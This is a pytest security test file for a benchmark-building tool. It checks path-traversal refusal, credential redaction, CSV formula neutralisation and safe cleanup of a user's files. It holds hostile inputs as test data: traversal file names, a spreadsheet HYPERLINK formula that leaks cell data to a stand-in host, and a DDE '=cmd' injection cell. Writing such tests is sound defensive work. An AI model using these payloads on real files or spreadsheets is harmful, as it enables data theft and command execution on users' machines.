"""Hostile input cannot write outside a root, put a key on disk, smuggle a spreadsheet formula into a released
answer, or get a user's files deleted (issue 26, classes 1-4). Servers are on loopback only."""

from __future__ import annotations

import csv
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest
from model_server import ScriptedModel
from test_coco_stage import write_split
from test_eval import viewspatial_build
from test_odi_questions import candidates

from benchfoundry.benchmarks.odi.stages.questions.question_builder import items_of
from benchfoundry.benchmarks.odi.stages.sphere_images import write_image
from benchfoundry.benchmarks.viewspatial.coco.config import CocoConfig
from benchfoundry.benchmarks.viewspatial.coco.stages.coco_stage import split_items
from benchfoundry.cli.main import main
from benchfoundry.configs.loader import load_config
from benchfoundry.configs.model import ModelEndpoint
from benchfoundry.core.output_root import MARKER_NAME
from benchfoundry.core.redact import redact
from benchfoundry.core.safe_paths import UnsafePathError, inside
from benchfoundry.flows.build import build
from benchfoundry.pipeline import review
from benchfoundry.pipeline.model_client import ModelClient, ModelError, user_message

KEY = "sk-test-0123456789abcdefSECRET"


def odi_items() -> list[dict]:
    """The closed and open items of the ODI question tests' room."""
    return [item for c in candidates() for item in items_of(c, "room", "odi/panoramas/room.png", 3, "labels")]


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


# --- 1. nothing written outside a root ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../x.png", "a/../../x.png", "/etc/x.png", "", "a\\..\\x.png", "a/\0.png"])
def test_a_name_from_input_that_leaves_its_folder_is_refused_naming_the_field(tmp_path: Path, name: str) -> None:
    with pytest.raises(UnsafePathError, match="^file_name: "):
        inside(tmp_path, name, "file_name")
    assert inside(tmp_path, "./a//b.png", "file_name") == tmp_path / "a" / "b.png"


def test_a_symbolic_link_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "out").symlink_to(tmp_path)
    with pytest.raises(UnsafePathError, match="leads outside"):
        inside(tmp_path / "root", "out/x.png", "file_name")


def test_a_coco_file_name_that_climbs_out_is_rejected_and_nothing_is_written_outside(tmp_path: Path) -> None:
    """The split's first image is named `../../<elsewhere>/000001.jpg` (the file exists there): the person is
    rejected as malformed, no file appears outside the output root, no item names a `..` path."""
    (tmp_path / "in").mkdir()
    source = write_split(tmp_path / "in")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    images = Path(source["images"])
    (elsewhere / "000001.jpg").write_bytes((images / "000001.jpg").read_bytes())
    coco = json.loads(Path(source["annotations"]).read_text())
    climb = "../../elsewhere/000001.jpg"
    assert (images / climb).resolve() == (elsewhere / "000001.jpg").resolve()
    coco["images"][0]["file_name"] = climb
    Path(source["annotations"]).write_text(json.dumps(coco))
    out = tmp_path / "out"
    before = files_under(tmp_path) - files_under(out)
    table, _, problems = split_items(str(out), "val", source, CocoConfig(shoulder_ratio=0.72), 0)
    assert files_under(tmp_path) - files_under(out) == before
    assert not any(".." in str(row) for row in table["image_path"])
    assert any(p["item"] == "val:image 1" and "climbs out" in p["reason"] for p in problems)


def test_sphere_ext_cannot_write_outside_outdir(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pano = tmp_path / "pano.png"
    write_image(pano, np.zeros((16, 32, 3), np.uint8))
    outdir = tmp_path / "a" / "b" / "out"
    outdir.mkdir(parents=True)
    before = files_under(tmp_path)
    with pytest.raises(SystemExit) as exit_:
        main(["sphere", "cubemap", str(pano), str(outdir), "--face-width", "8", "--ext", "/../../x.png"])
    assert exit_.value.code == 2 and "is not a file extension" in capsys.readouterr().err
    assert files_under(tmp_path) == before


# --- 2. no key on disk ----------------------------------------------------------------------------------


@pytest.fixture
def echo_server() -> Iterator[str]:
    """A careless server on loopback: refuses every request with 400, echoing the request's headers."""

    class Echo(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            echo = {"authorization": self.headers.get("Authorization"), "headers": dict(self.headers)}
            body = json.dumps(echo).encode()
            self.send_response(400)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_refusal_that_echoes_the_key_keeps_it_out_of_the_error(
    echo_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BF_RELIABILITY_KEY", KEY)
    endpoint = ModelEndpoint(base_url=f"http://{echo_server}/v1", model="m", api_key_env="BF_RELIABILITY_KEY")
    with ModelClient(endpoint, None) as client, pytest.raises(ModelError) as caught:
        client.chat([user_message("q")])
    message = str(caught.value)
    assert "HTTP 400" in message and "Bearer" in message  # the echo was read, and its key hidden
    assert KEY not in message and KEY[:12] not in message


@pytest.mark.parametrize("answering", [True, False])
def test_eval_writes_no_key_and_no_url_credentials(
    tmp_path: Path, echo_server: str, answering: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    """A model that answers (the score file records the URL) and one that echoes the key in its refusals."""
    monkeypatch.setenv("BF_RELIABILITY_KEY", KEY)
    viewspatial_build(tmp_path, n=3)
    with ScriptedModel(lambda prompt, attempt: ("ok", "A")) as model:
        host = model.base_url.split("//")[1].split("/")[0] if answering else echo_server
        url = f"http://alice:pa55word-xyz@{host}/v1"
        argv = ["eval", "viewspatial", "--build", str(tmp_path), "--base-url", url, "--model", "m", "--retries", "0"]
        code = main([*argv, "--api-key-env", "BF_RELIABILITY_KEY"])
    assert code == (0 if answering else 2)
    printed = capsys.readouterr()
    written = "".join(p.read_text(errors="replace") for p in files_under(tmp_path) if p.suffix in (".json", ".jsonl"))
    for text in (written, printed.out, printed.err):
        assert KEY not in text and "pa55word-xyz" not in text
    if answering:
        assert json.loads((tmp_path / "report" / "eval" / "m" / "viewspatial.json").read_text())["base_url"] == (
            f"http://***@{host}/v1"
        )
    else:
        assert "HTTP 400" in printed.err


def test_redaction_hides_every_credential_shape_and_keeps_ordinary_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_SERVICE_TOKEN", "t0ken-value-42")
    text = (
        'HTTP 401: {"Authorization": "Bearer abc.def", "x-api-key": "k-1"} '
        "https://bob:hunter2@example.org/v1?key=zz&n=3 password=pw1 hf_abcdefghijk t0ken-value-42 "
        "max_tokens=512 prompt_tokens: 7"
    )
    hidden = redact(text)
    for secret in ("abc.def", "k-1", "bob", "hunter2", "zz", "pw1", "hf_abcdefghijk", "t0ken-value-42"):
        assert secret not in hidden
    assert "max_tokens=512 prompt_tokens: 7" in hidden and "n=3" in hidden and "example.org/v1" in hidden


# --- 3. CSV cells neutralised on export, refused on import -----------------------------------------------


@pytest.fixture
def items() -> list[dict]:
    made = odi_items()
    made[0] = {**made[0], "question": '=HYPERLINK("http://x.example/?"&A1,"click")'}
    made[1] = {**made[1], "options": ["-1 m", *made[1]["options"][1:]], "answer": "-1 m", "form": "closed"}
    return made


def test_formula_cells_are_neutralised_on_export(tmp_path: Path, items: list[dict]) -> None:
    paths = review.export_for_review(items, tmp_path)
    cells = [cell for row in csv.reader(Path(paths["csv"]).open()) for cell in row]
    assert "'" + items[0]["question"] in cells and "'-1 m" in cells
    assert not any(cell.startswith(review.FORMULA_START) for cell in cells)


def test_a_formula_edit_is_refused_and_a_neutralised_one_is_taken_back(tmp_path: Path, items: list[dict]) -> None:
    open_item = next(i for i in items if i["form"] == "open")
    rows = [
        {"id": open_item["id"], "decision": "edit", "edited_answer": '=cmd|"/c calc"!A1'},
        {"id": items[1]["id"], "decision": "edit", "edited_answer": "'-1 m"},
        {"id": items[2]["id"], "decision": "@SUM(1)"},
        {"id": items[3]["id"], "decision": "edit", "edited_answer": "+1"},
    ]
    path = tmp_path / "filled.csv"
    with path.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=review.CSV_FIELDS)
        writer.writeheader()
        writer.writerows(rows)
    decisions, bad = review.read_decisions(path, items)
    assert decisions == {items[1]["id"]: {"decision": "edit", "answer": "-1 m"}}
    assert [b["line"] for b in bad] == [2, 4, 5] and all("formula" in b["reason"] for b in bad)
    released = review.release(items, decisions, release_unreviewed=True)
    assert not any(str(i["answer"]).startswith("=") for i in released)


# --- 4. --adopt-out deletes nothing of the user's ----------------------------------------------------------


def test_an_adopted_folder_keeps_what_looks_like_leftovers(tmp_path: Path, prefect_server: None) -> None:
    """A user's folder holding `syndor/_tmp/`, `syndor/.x.abcdefgh.tmp` and `.build.json.abcdefgh.tmp` is adopted:
    neither the first build nor a later one deletes them; a real leftover of a later build is swept."""
    user = [tmp_path / "syndor" / "_tmp" / "notes.txt", tmp_path / "syndor" / ".x.abcdefgh.tmp"]
    user.append(tmp_path / ".build.json.abcdefgh.tmp")
    for path in user:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("mine")
    config = load_config(None, ["syndor.enabled=false", "odi.enabled=false", "viewspatial.enabled=false"])
    first = build(config, str(tmp_path), adopt=True)
    assert first["status"] == "finished" and first["swept_leftovers"] == []
    assert all(p.read_text() == "mine" for p in user)
    killed = tmp_path / "syndor" / "render" / ".manifest.parquet.k1ll3dxx.tmp"
    killed.parent.mkdir(parents=True)
    killed.write_bytes(b"partial")
    second = build(config, str(tmp_path))
    assert second["swept_leftovers"] == ["syndor/render/.manifest.parquet.k1ll3dxx.tmp"]
    assert all(p.read_text() == "mine" for p in user) and not killed.exists()
    recorded = json.loads((tmp_path / MARKER_NAME).read_text())["adopted_leftovers"]
    assert sorted(recorded) == sorted(str(p.relative_to(tmp_path)) for p in [user[0].parent, *user[1:]])
